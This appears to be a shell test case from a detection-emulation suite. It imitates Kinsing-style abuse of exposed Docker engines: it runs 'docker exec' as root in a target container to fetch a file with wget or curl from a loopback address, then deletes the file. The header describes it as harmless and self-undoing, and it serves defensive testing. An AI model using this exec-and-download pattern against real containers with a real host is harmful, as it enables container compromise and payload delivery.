#!/bin/sh
# case: T1609-exec-downloads
# technique: Command brought in by docker exec that fetches something
# source: Kinsing on open engines
# needs: docker
# expect: exec net
# where: host
# image: busybox debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
need docker
D=${DOCKER:-docker}; : "${TARGET:?container name}"
"$D" exec -u 0:0 -w /tmp "$TARGET" sh -c 'wget -q -T 2 -O /tmp/ho.x http://127.0.0.1:8099/x || curl -s -m 2 -o /tmp/ho.x http://127.0.0.1:8099/x; rm -f /tmp/ho.x' >/dev/null 2>&1; true
exit 0
